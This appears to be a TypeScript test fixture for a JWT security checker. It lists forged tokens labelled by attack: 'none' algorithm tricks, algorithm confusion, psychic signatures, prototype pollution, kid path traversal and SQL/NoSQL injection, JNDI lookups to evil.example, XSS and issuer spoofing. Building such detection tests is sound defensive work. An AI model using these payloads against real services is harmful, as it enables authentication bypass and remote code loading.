import { encodeBase64url } from '../../../../../src/core/jwt/text/base64url.ts'
import { encode, seconds } from '../sample.ts'

type Json = Record<string, unknown>

const claims = {
  sub: 'alice',
  iss: 'https://id.example',
  aud: 'https://api.example',
  exp: seconds + 3_600,
  iat: seconds,
}
const bytes = (hex: string) =>
  encodeBase64url(Uint8Array.from(hex.match(/../g) ?? [], (pair) => Number.parseInt(pair, 16)))
const rsa = bytes('37'.repeat(256))
const es = bytes('37'.repeat(64))
const jwk = {
  kty: 'EC',
  crv: 'P-256',
  x: 'f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU',
  y: 'x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0',
}

function make(header: Json | string, body: unknown = claims, signature = rsa): string {
  return `${encode(header)}.${encode(body)}.${signature}`
}
const head = (more: Json) => make({ alg: 'RS256', typ: 'JWT', kid: 'k1', ...more })
const say = (more: Json) => make({ alg: 'RS256', typ: 'JWT', kid: 'k1' }, { ...claims, ...more })
const raw = (payload: string) => make({ alg: 'RS256', kid: 'k1' }, payload)
const kid = (value: unknown) => head({ kid: value })

/** What no other list has, and the name by which each is to be called; one a line. */
// prettier-ignore
export const furtherAttacks: [name: string, token: string][] = [
  ['algorithm none', make({ alg: 'n0ne' }, claims, '')],
  ['algorithm none', make({ alg: 'nоne' }, claims, '')],
  ['algorithm none', make({ alg: 'ｎｏｎｅ' }, claims, '')],
  ['algorithm none', make({ alg: 'no\u200bne' }, claims, '')],
  ['algorithm none', make({ alg: 'none' }).split('.').slice(0, 2).join('.')],
  ['name in other letters', make({ ALG: 'none' }, claims, '')],
  ['name in other letters', make({ Alg: 'none', alg: 'RS256' })],
  ['name in other letters', head({ Jku: 'https://evil.example' })],
  ['name in other letters', make({ alg: 'RS256' }, { sub: 'alice', EXP: seconds + 60 })],
  ['name in other letters', make({ alg: 'RS256' }, { sub: 'alice', 'sub\u200b': 'admin' })],
  ['algorithm spelled otherwise', make({ alg: 'hs256' })],
  ['algorithm spelled otherwise', make({ alg: 'Rs256' })],
  ['algorithm spelled otherwise', make({ alg: 'HS256 ' })],
  ['algorithm spelled otherwise', make({ alg: 'HS-256' })],
  ['unknown algorithm', make({ alg: 'HS1' })],
  ['unknown algorithm', make({ alg: '../../lib/evil' })],
  ['encryption where a signature should be', make({ alg: 'dir' })],
  ['encryption where a signature should be', make({ alg: 'RSA-OAEP' })],
  ['encryption where a signature should be', make({ alg: 'RS256', enc: 'A128GCM' })],
  ['algorithm changed', make({ alg: 'HS256' })],
  ['algorithm changed', make({ alg: 'RS256' }, claims, bytes('37'.repeat(32)))],
  ['blank signature', make({ alg: 'RS256' }, claims, bytes('00'.repeat(256)))],
  ['blank signature', make({ alg: 'RS256' }, claims, bytes(`${'00'.repeat(255)}01`))],
  ['blank signature', make({ alg: 'HS256' }, claims, bytes('00'.repeat(32)))],
  ['psychic signature', make({ alg: 'ES256' }, claims, bytes('3006020100020100'))],
  ['psychic signature', make({ alg: 'EdDSA' }, claims, bytes(`01${'00'.repeat(63)}`))],
  ['second form of a signature', make({ alg: 'EdDSA' }, claims, bytes(`${'11'.repeat(32)}${'f'.repeat(2)}${'00'.repeat(30)}1f`))],
  ['a part too many', `${make({ alg: 'RS256' })}.AAAA`],
  ['JSON that programs read differently', make('\ufeff{"alg":"RS256"}')],
  ['JSON that programs read differently', make('{"alg":"RS256"}x')],
  ['JSON that programs read differently', make('{"alg":"RS256",}')],
  ['JSON that programs read differently', make('{"alg":"RS256"/*none*/}')],
  ['JSON that programs read differently', make('{"alg":"RS256"}{"alg":"none"}')],
  ['JSON that programs read differently', make("{'alg':'RS256'}")],
  ['JSON that programs read differently', raw('{"sub":"alice","exp":NaN}')],
  ['bytes that are no text', `${encode({ alg: 'RS256' })}.${bytes('7b22737562223a22ff227d')}.${rsa}`],
  ['prototype pollution', make('{"alg":"RS256","__proto__":{"alg":"none"}}')],
  ['prototype pollution', raw('{"sub":"alice","constructor":{"prototype":{"admin":true}}}')],
  ['too much for a parser', raw('{"a":'.repeat(200) + '1' + '}'.repeat(200))],
  ['too much for a parser', raw(JSON.stringify(Object.fromEntries(Array.from({ length: 2_100 }, (_, i) => [`c${i}`, i]))))],
  ['duplicate members', raw('{"sub":"alice","\\u0073ub":"admin"}')],
  ['duplicate members', raw('{"sub":"alice","realm_access":{"roles":["a"],"roles":["admin"]}}')],
  ['path traversal in kid', kid('%252e%252e%252fdev%252fnull')],
  ['path traversal in kid', kid('....//....//etc/passwd')],
  ['path traversal in kid', kid('．．／．．／etc/passwd')],
  ['address in kid', kid('php://filter/resource=x')],
  ['address in kid', kid('\\\\evil.example\\share\\key')],
  ['path in kid', kid('/proc/sys/kernel/randomize_va_space')],
  ['SQL injection in kid', kid("key1'")],
  ['query operator in kid', kid('{"$ne": null}')],
  ['expression in kid', kid('a${${lower:j}ndi:ldap://evil.example}')],
  ['markup in kid', kid('javascript:alert(1)')],
  ['name of a built-in in kid', kid('__proto__')],
  ['invisible characters in kid', kid('key\u200b1')],
  ['absurd length in kid', kid('k'.repeat(5_000))],
  ['key from jku', head({ jku: 'file:///etc/keys.json' })],
  ['key in the token', make({ alg: 'ES256', jwk: JSON.stringify(jwk) }, claims, es)],
  ['key in the token', make({ alg: 'ES256', jwks: { keys: [jwk] } }, claims, es)],
  ['key in the token, with its private part', make({ alg: 'ES256', jwk: { ...jwk, d: 'AAAA' } }, claims, es)],
  ['key in the token, a secret', make({ alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' } }, claims, bytes('37'.repeat(32)))],
  ['secret in the header', make({ alg: 'HS256', secret: 'changeme' }, claims, bytes('37'.repeat(32)))],
  ['payload not encoded', head({ b64: 'false' })],
  ['compression bomb', head({ zip: 'DEF' })],
  ['content type', head({ cty: 'JWT' })],
  ['content type', head({ cty: 'text/xml' })],
  ['content type', head({ cty: 'application/x-java-serialized-object' })],
  ['Attack or mistake: type', head({ typ: ['JWT'] })],
  ['Attack or mistake: type', head({ typ: 'JWT\u0000' })],
  ['header and claims differ', head({ iss: 'https://evil.example' })],
  ['order of times', say({ nbf: seconds + 7_200 })],
  ['order of times', say({ iat: seconds + 20, exp: seconds + 10 })],
  ['time in exp', say({ exp: [seconds + 60] })],
  ['time in exp', say({ exp: 'never' })],
  ['time in exp', say({ exp: true })],
  ['time in nbf', say({ nbf: 'now' })],
  ['audience for all', say({ aud: '*' })],
  ['audience for all', say({ aud: ['https://*.example'] })],
  ['many audiences', say({ aud: Array.from({ length: 50 }, (_, i) => `https://api${i}.example`) })],
  ['aud is not text', say({ aud: { $ne: null } })],
  ['aud is empty', say({ aud: '' })],
  ['iss is not text', say({ iss: ['https://id.example', 'https://evil.example'] })],
  ['iss is not text', say({ iss: null })],
  ['sub is not text', say({ sub: ['alice', 'admin'] })],
  ['sub is empty', say({ sub: ' ' })],
  ['issuer that looks like another', say({ iss: 'https://іd.example' })],
  ['issuer that looks like another', say({ iss: 'https://id.example@evil.example' })],
  ['issuer that looks like another', say({ iss: 'https://evil.example#id.example' })],
  ['issuer that looks like another', say({ iss: 'https://id.example ' })],
  ['issuer that looks like another', say({ iss: 'https://id.exa\u200bmple' })],
  ['issuer that looks like another', say({ iss: 'https://xn--d-jlc.example' })],
  ['issuer that looks like another', say({ iss: 'https://id.example/../evil' })],
  ['letters that look like others', say({ sub: 'аdmin' })],
  ['letters that look like others', say({ sub: 'admin\u0000' })],
  ['letters that look like others', say({ preferred_username: 'nimda\u202e' })],
  ['injection in a claim', say({ sub: "admin' OR '1'='1" })],
  ['injection in a claim', say({ name: '<script>alert(1)</script>' })],
  ['injection in a claim', say({ jti: '../../etc/passwd' })],
  ['injection in a claim', say({ name: '${jndi:ldap://evil.example}' })],
  ['injection in a claim', say({ client_id: { $regex: '.*' } })],
  ['token for one step', say({ purpose: 'email_verification' })],
  ['token for one step', say({ typ: 'password-reset' })],
]

/** What is told without being called an attack: the id of the check. */
// prettier-ignore
export const furtherNotices: [id: string, code: string, token: string][] = [
  ['size', 'over_4_kb', say({ x: 'y'.repeat(3_600) })],
  ['size', 'over_8_kb', say({ x: 'y'.repeat(6_600) })],
  ['size', 'over_16_kb', say({ x: 'y'.repeat(13_000) })],
  ['time', 'issued_in_future', say({ iat: seconds + 86_400, exp: seconds + 90_000 })],
  ['number', 'number_for_text', say({ sub: 17 })],
  ['personal-data', 'personal_data', say({ iban: 'DE00' })],
  ['personal-data', 'personal_data', say({ note: 'DE89 3704 0044 0532 0130 00' })],
  ['personal-data', 'personal_data', say({ note: '4111 1111 1111 1111' })],
  ['personal-data', 'personal_data', say({ note: '078-05-1120' })],
  ['personal-data', 'personal_data', say({ user: { contact: { 'Date-Of-Birth': '2000-01-01' } } })],
  ['secret', 'secret_in_claims', say({ db: 'postgres://app:hunter2@db.example/app' })],
  ['secret', 'secret_in_claims', say({ hash: '$2b$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy' })],
  ['secret', 'secret_in_claims', say({ cnf: { jwk: { ...jwk, d: 'AAAA' } } })],
  ['secret', 'secret_in_claims', say({ user: { pwd: 'hunter2' } })],
]

/** What only resembles one: no attack is named. */
// prettier-ignore
export const noAttacks: string[] = [
  say({ iss: 'http://localhost:8080/realms/a' }),
  say({ iss: 'https://127.0.0.1:5001' }),
  say({ iss: 'joe', aud: ['a', 'b'] }),
  say({ sub: 'Łukasz Żółw', name: 'Дмитрий' }),
  say({ sub: 'éloïse@exämple.de', preferred_username: 'naïve' }),
  say({ sub: 'arn:aws:sts::1:assumed-role/r/s', note: 'a < b -- c; d' }),
  say({ sub: 'auth0|5f7c8ec7c33c6c004bbafe82', picture: 'https://s.example/a?x=1&y=2' }),
  say({ ref: 'refs/heads/feature/../x'.replace('../', '') }),
  say({ sub: 17, jti: 4, iss: 12345 }),
  say({ note: '4111 1111 1111 1112', scope: 'api://*/.default'.replace('*', 'x') }),
  head({ kid: 'did:web:id.example#0' }),
  head({ typ: 'application/at+jwt', cty: 'json' }),
  head({ typ: 'JOSE+JSON' }),
  head({ iss: 'https://id.example', nonce: 'abc' }),
]
